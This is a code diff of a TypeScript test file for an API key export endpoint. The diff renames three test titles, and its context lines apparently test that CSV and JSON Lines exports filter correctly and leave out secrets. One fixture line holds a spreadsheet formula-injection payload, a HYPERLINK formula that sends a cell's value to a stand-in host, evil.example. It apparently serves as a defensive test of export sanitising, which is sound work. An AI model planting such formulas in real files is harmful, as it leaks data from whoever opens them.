@@ -7,7 +7,7 @@ import { startKeyward } from '../support/keyward.ts';
 const keyward = await startKeyward();
 const as = await keyward.asUser('ADMIN');
 
-test('a list is written as CSV and as JSON Lines, narrowed as the list is, and holds nothing that proves a key', async () => {
+test('exports the filtered list as CSV and JSON Lines without secrets', async () => {
   const key = await keyward.addKey({ role: 'READONLY', appname: 'secretive' });
   const evil = '=HYPERLINK("http://evil.example?x="&A1,"click")';
   await putKeys(keyward, 'acme1', [
@@ -41,7 +41,7 @@ test('a list is written as CSV and as JSON Lines, narrowed as the list is, and h
   assert.equal((await keyward.request('GET', '/api/v1/key-export?format=xls', { as })).body.code, 'invalid_request');
 });
 
-test('keys that are named are written in this order, and names that no key has are left out', async () => {
+test('exports named keys in the requested order and omits unknown names', async () => {
   await putKeys(keyward, 'acme1', [{ appname: 'first' }, { appname: 'second' }]);
   const body = { format: 'jsonl', appnames: ['second', 'nobody', 'first'] };
   const { text, headers } = await keyward.ok('POST', '/api/v1/key-export', { body, as });
@@ -65,7 +65,7 @@ test('the last four characters of a key find it by its hint', async () => {
   assert.ok(body.data.some(({ appname }: { appname: string }) => appname === 'found-by-end'));
 });
 
-test('an export may name 10,000 keys with names of 64 characters', async () => {
+test('an export accepts 10,000 names of 64 characters', async () => {
   const appnames = Array.from({ length: 10_000 }, (_, at) => `${at}`.padStart(64, 'n'));
   await keyward.ok('POST', '/api/v1/key-export', { body: { format: 'jsonl', appnames }, as });
 });
